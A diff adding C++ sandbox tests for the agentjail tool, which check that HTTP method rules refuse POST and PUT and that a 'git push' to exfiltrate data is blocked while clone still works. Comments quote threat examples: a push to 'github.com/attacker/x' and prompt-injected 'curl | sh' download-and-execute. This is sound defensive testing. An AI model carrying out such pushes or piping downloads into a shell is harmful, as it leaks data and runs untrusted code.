@@ -444,6 +444,215 @@ TEST_F(Escape, NET06_EveryRequestIsLoggedWithBytes) {
     EXPECT_EQ(tls.requests().size(), 1u);
 }
 
+// Method rules (THREATS.md NET-06 (b)): a GET-only entry, as the registries of the
+// balanced preset have, refuses POST and PUT with a 403 naming the entry's file:line,
+// over plain HTTP and over HTTPS (intercepted with the run's CA, trusted inside
+// through SSL_CERT_FILE and friends), also for a second request on a kept-alive
+// connection. Control: GET and HEAD to the same host pass, and the same POST
+// passes where the entry has no methods.
+TEST_F(Escape, NET06_MethodRulesRefusePostAndPutOverHttpAndHttps) {
+    NetFixture f;
+    auto c = ajnet::make_cert(f.scratch.path() + "/ca.pem", f.scratch.path() + "/key.pem",
+                              {"registry.test", "open.test"});
+    TestServer http({"reg-http"});
+    TestServer::Options to;
+    to.name = "reg-tls";
+    to.tls = &c;
+    to.keep_alive = true;  // so curl's second request can share the connection
+    TestServer tls(to);
+    std::string hp = std::to_string(http.port()), tp = std::to_string(tls.port());
+    NetPolicy p;
+    // Lines 6 and 7 of the file (toml(): extends, blank, [network], mode, allow = [).
+    p.allow_toml = {"{ host = \"registry.test:" + hp + "\", methods = [\"GET\", \"HEAD\"] }",
+                    "{ host = \"registry.test:" + tp + "\", methods = [\"GET\", \"HEAD\"] }",
+                    "\"open.test:" + tp + "\""};
+    p.hosts = {{"registry.test", "127.0.0.1"}, {"open.test", "127.0.0.1"}};
+    std::string policy = f.policy(p);
+    ASSERT_TRUE(ajtest::contains(ajtest::read_file(policy), "allow = [\n    { host = \"registry.test:" + hp))
+        << ajtest::read_file(policy);
+    // The proxy verifies upstreams against agentjail's SSL_CERT_FILE: the test CA.
+    ajtest::RunOptions o;
+    o.timeout_ms = kTimeoutMs;
+    o.env = {"SSL_CERT_FILE=" + c.cert_path};
+    std::string H = "http://registry.test:" + hp, S = "https://registry.test:" + tp;
+    std::string script =
+        "C='curl -sS --max-time 15 -o body.out -w %{http_code}'; b() { tr '\\n' ' ' < body.out; }; "
+        "echo \"R get-http $($C " + H + "/hello) $(b)\"; "
+        "echo \"R head-http $($C -I " + H + "/hello)\"; "
+        "echo \"R post-http $($C -d x=1 " + H + "/publish) $(b)\"; "
+        "echo \"R put-http $($C -T /etc/hostname " + H + "/pkg) $(b)\"; "
+        "echo \"R get-https $($C " + S + "/hello) $(b)\"; "
+        "echo \"R post-https $($C -d x=1 " + S + "/publish) $(b)\"; "
+        "echo \"R put-https $($C -T /etc/hostname " + S + "/pkg) $(b)\"; "
+        // One connection, two requests: the second one is checked too.
+        "echo \"R keepalive $($C " + S + "/hello --next -sS -o body.out -w %{http_code} -X POST -d y " + S +
+        "/again) $(b)\"; "
+        "echo \"R post-open $($C -d x=1 https://open.test:" + tp + "/publish) $(b)\"; rm -f body.out";
+    std::vector<std::string> args = cat(jail.base(), {"-p", policy, "--net-log", f.log_path()});
+    args.insert(args.end(), {"--", "/bin/bash", "-c", script});
+    auto r = jail.run(args, o);
+    ASSERT_EQ(r.status, 0) << describe(r);
+    std::string rule_http = "net.toml:6:", rule_https = "net.toml:7:";
+    EXPECT_TRUE(ajtest::contains(status_of(r.out, "get-http"), "200 hello from reg-http")) << r.out;
+    EXPECT_EQ(status_of(r.out, "head-http"), "200") << r.out;
+    EXPECT_TRUE(ajtest::contains(status_of(r.out, "get-https"), "200 hello from reg-tls")) << r.out;
+    for (const char* label : {"post-http", "put-http", "post-https", "put-https"}) {
+        std::string st = status_of(r.out, label);
+        bool https = std::string(label).find("https") != std::string::npos;
+        EXPECT_EQ(st.substr(0, 4), "403 ") << label << "\n" << r.out;
+        EXPECT_TRUE(ajtest::contains(st, https ? rule_https : rule_http)) << label << ": " << st;
+        EXPECT_TRUE(ajtest::contains(st, "allows only methods GET, HEAD")) << label << ": " << st;
+    }
+    // curl prints both codes of the kept-alive connection: 200 then 403.
+    EXPECT_TRUE(ajtest::contains(status_of(r.out, "keepalive"), "200403")) << r.out;
+    // Control: an entry without methods lets the same POST through.
+    EXPECT_TRUE(ajtest::contains(status_of(r.out, "post-open"), "200 got 3 bytes")) << r.out;
+    // Only the GETs, HEAD and the control's POST reached the servers.
+    std::vector<std::string> seen;
+    for (const auto& q : http.requests()) seen.push_back(q.method + " " + q.target);
+    EXPECT_EQ(seen, (std::vector<std::string>{"GET /hello", "HEAD /hello"}));
+    seen.clear();
+    for (const auto& q : tls.requests()) seen.push_back(q.method + " " + q.target);
+    EXPECT_EQ(seen, (std::vector<std::string>{"GET /hello", "GET /hello", "POST /publish"}));
+    // Each refusal is a log line with method, host, path, decision, rule and bytes.
+    auto denied = ajnet::log_entries(f.log(), "registry.test", "deny");
+    ASSERT_EQ(denied.size(), 5u) << ajnet::dump(f.log());
+    for (const auto& e : denied) {
+        EXPECT_TRUE(e.value("method", "") == "POST" || e.value("method", "") == "PUT") << e.dump();
+        EXPECT_FALSE(e.value("path", "").empty()) << e.dump();
+        EXPECT_TRUE(ajtest::contains(e.value("rule", ""), "net.toml:")) << e.dump();
+        EXPECT_TRUE(e.contains("bytes_up") && e.contains("bytes_down")) << e.dump();
+    }
+}
+
+// A smart-HTTP git server over TLS (git http-backend as CGI behind a small Python
+// server), for the push test below. Prints its port into port_file.
+const char* kGitServer = R"PY(
+import http.server, os, ssl, subprocess, sys
+root, cert, key, port_file = sys.argv[1:5]
+class H(http.server.BaseHTTPRequestHandler):
+    protocol_version = 'HTTP/1.1'
+    def go(self):
+        body = b''
+        if self.headers.get('Transfer-Encoding', '').lower() == 'chunked':
+            while True:
+                size = int(self.rfile.readline().split(b';')[0], 16)
+                if size == 0:
+                    self.rfile.readline()
+                    break
+                body += self.rfile.read(size)
+                self.rfile.readline()
+        else:
+            body = self.rfile.read(int(self.headers.get('Content-Length') or 0))
+        path, _, query = self.path.partition('?')
+        with open(os.path.join(root, 'requests.log'), 'a') as f:
+            f.write(self.command + ' ' + path + '\n')
+        env = dict(os.environ, GIT_PROJECT_ROOT=root, GIT_HTTP_EXPORT_ALL='1', REQUEST_METHOD=self.command,
+                   PATH_INFO=path, QUERY_STRING=query, CONTENT_TYPE=self.headers.get('Content-Type', ''),
+                   CONTENT_LENGTH=str(len(body)), REMOTE_ADDR='127.0.0.1',
+                   HTTP_CONTENT_ENCODING=self.headers.get('Content-Encoding', ''))
+        out = subprocess.run(['git', 'http-backend'], input=body, env=env, capture_output=True).stdout
+        head, _, rest = out.partition(b'\r\n\r\n')
+        status, headers = 200, []
+        for l in head.decode().split('\r\n'):
+            k, _, v = l.partition(':')
+            if k.lower() == 'status':
+                status = int(v.split()[0])
+            elif k:
+                headers.append((k, v.strip()))
+        self.send_response(status)
+        for k, v in headers:
+            self.send_header(k, v)
+        self.send_header('Content-Length', str(len(rest)))
+        self.end_headers()
+        self.wfile.write(rest)
+    do_GET = do_POST = go
+    def log_message(self, *a):
+        pass
+s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
+c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+c.load_cert_chain(cert, key)
+s.socket = c.wrap_socket(s.socket, server_side=True)
+with open(port_file + '.tmp', 'w') as f:
+    f.write(str(s.server_address[1]))
+os.rename(port_file + '.tmp', port_file)
+s.serve_forever()
+)PY";
+
+// git push exfiltration (NET-06 "git push https://github.com/attacker/x"): the
+// balanced preset's GitHub entries let git fetch over smart HTTP (GET info/refs,
+// POST .../git-upload-pack) and allow no POST to .../git-receive-pack, so a push is
+// refused with a 403 before any pack reaches the server. Real git, over HTTPS
+// (intercepted). Control: with an entry without methods the same push goes through.
+TEST_F(Escape, NET06_GitPushIsRefusedWhileCloneWorks) {
+    if (!ajtest::exists("/usr/bin/git") || !ajtest::exists("/usr/bin/python3"))
+        GTEST_SKIP() << "needs /usr/bin/git and /usr/bin/python3 (the smart-HTTP test server)";
+    NetFixture f;
+    auto c = ajnet::make_cert(f.scratch.path() + "/ca.pem", f.scratch.path() + "/key.pem", {"git.test"});
+    std::string root = f.scratch.path() + "/srv";
+    jail.ws_dir().write("test-ca.pem", ajtest::read_file(c.cert_path));
+    std::string setup = "set -e; mkdir -p " + root + "; git init -q -b main " + f.scratch.path() +
+                        "/src; cd " + f.scratch.path() +
+                        "/src; echo hello > README; git add README; git -c user.name=t -c user.email=t@t commit -qm "
+                        "init; git clone -q --bare . " + root + "/repo.git; git -C " + root +
+                        "/repo.git config http.receivepack true";
+    auto h = ajtest::run_with({"/bin/sh", "-c", setup}, {});
+    ASSERT_EQ(h.status, 0) << h.out << h.err;
+    std::string server_py = f.scratch.write("gitserver.py", kGitServer);
+    std::string port_file = f.scratch.path() + "/port";
+    ajtest::RunOptions so;
+    so.timeout_ms = 10 * 60 * 1000;
+    ajtest::Child server({"/usr/bin/python3", server_py, root, c.cert_path, c.key_path, port_file}, so);
+    for (int i = 0; i < 100 && !ajtest::exists(port_file); ++i) ::usleep(50 * 1000);
+    ASSERT_TRUE(ajtest::exists(port_file)) << "the git test server did not start";
+    std::string port = ajtest::trim(ajtest::read_file(port_file));
+    std::string url = "https://git.test:" + port + "/repo.git";
+    auto push_script = [&](const std::string& marker) {
+        // Intercepted, git trusts the run's CA through GIT_SSL_CAINFO; the control's
+        // plain tunnel needs the test CA itself.
+        return "set -e; export GIT_SSL_CAINFO=${GIT_SSL_CAINFO:-" + jail.ws() + "/test-ca.pem}; git clone -q " + url + " work; cd work; echo " + marker +
+               " > canary; git add canary; git -c user.name=t -c user.email=t@t commit -qm x; echo R cloned; "
+               "if git push -q origin main 2> push.err; then echo R pushed; else echo R refused; fi; "
+               "cat push.err; cd ..; rm -rf work";
+    };
+    auto run_with = [&](const std::vector<std::string>& allow_toml, const std::string& marker, bool record) {
+        NetPolicy p;
+        p.allow_toml = allow_toml;
+        p.hosts = {{"git.test", "127.0.0.1"}};
+        ajtest::RunOptions o;
+        o.timeout_ms = kTimeoutMs;
+        o.env = {"SSL_CERT_FILE=" + c.cert_path};
+        std::vector<std::string> args =
+            cat(jail.base(), {"-p", f.policy(p), "--net-log", f.log_path(), "--", "/bin/bash", "-c", push_script(marker)});
+        return record ? jail.run(args, o) : jail.control(args, o);
+    };
+    std::string hp = "git.test:" + port;
+    // As the balanced preset writes its GitHub entries.
+    auto r = run_with({"{ host = \"" + hp + "\", methods = [\"GET\", \"HEAD\"] }",
+                       "{ host = \"" + hp + "\", methods = [\"POST\"], paths = [\"/**/git-upload-pack\"] }"},
+                      "canary-refused", true);
+    ASSERT_EQ(r.status, 0) << describe(r);
+    EXPECT_TRUE(ajtest::contains(r.out, "R cloned")) << describe(r);
+    EXPECT_TRUE(ajtest::contains(r.out, "R refused")) << describe(r);
+    EXPECT_TRUE(ajtest::contains(r.out, "403")) << describe(r);
+    std::string seen = ajtest::read_file(root + "/requests.log");
+    EXPECT_TRUE(ajtest::contains(seen, "POST /repo.git/git-upload-pack")) << seen;
+    EXPECT_FALSE(ajtest::contains(seen, "POST /repo.git/git-receive-pack")) << seen;
+    bool logged = false;
+    for (const auto& e : ajnet::log_entries(f.log(), "git.test", "deny"))
+        logged = logged || (e.value("method", "") == "POST" &&
+                            ajtest::contains(e.value("path", ""), "git-receive-pack"));
+    EXPECT_TRUE(logged) << ajnet::dump(f.log());
+    auto refs = ajtest::run_with({"/bin/sh", "-c", "git -C " + root + "/repo.git log --oneline main | wc -l"}, {});
+    EXPECT_EQ(ajtest::trim(refs.out), "1") << "the refused push changed the repository";
+    // Control: without methods, the same push reaches the server and lands.
+    auto ok = run_with({"{ host = \"" + hp + "\" }"}, "canary-pushed", false);
+    ASSERT_EQ(ok.status, 0) << describe(ok);
+    EXPECT_TRUE(ajtest::contains(ok.out, "R pushed")) << describe(ok);
+    refs = ajtest::run_with({"/bin/sh", "-c", "git -C " + root + "/repo.git log --oneline main | wc -l"}, {});
+    EXPECT_EQ(ajtest::trim(refs.out), "2") << describe(ok);
+}
+
 // ---- NET-07 prompt-injected download-and-execute -----------------------------------
 
 // curl | sh and wget | sh from a host the policy does not allow: 403, the payload
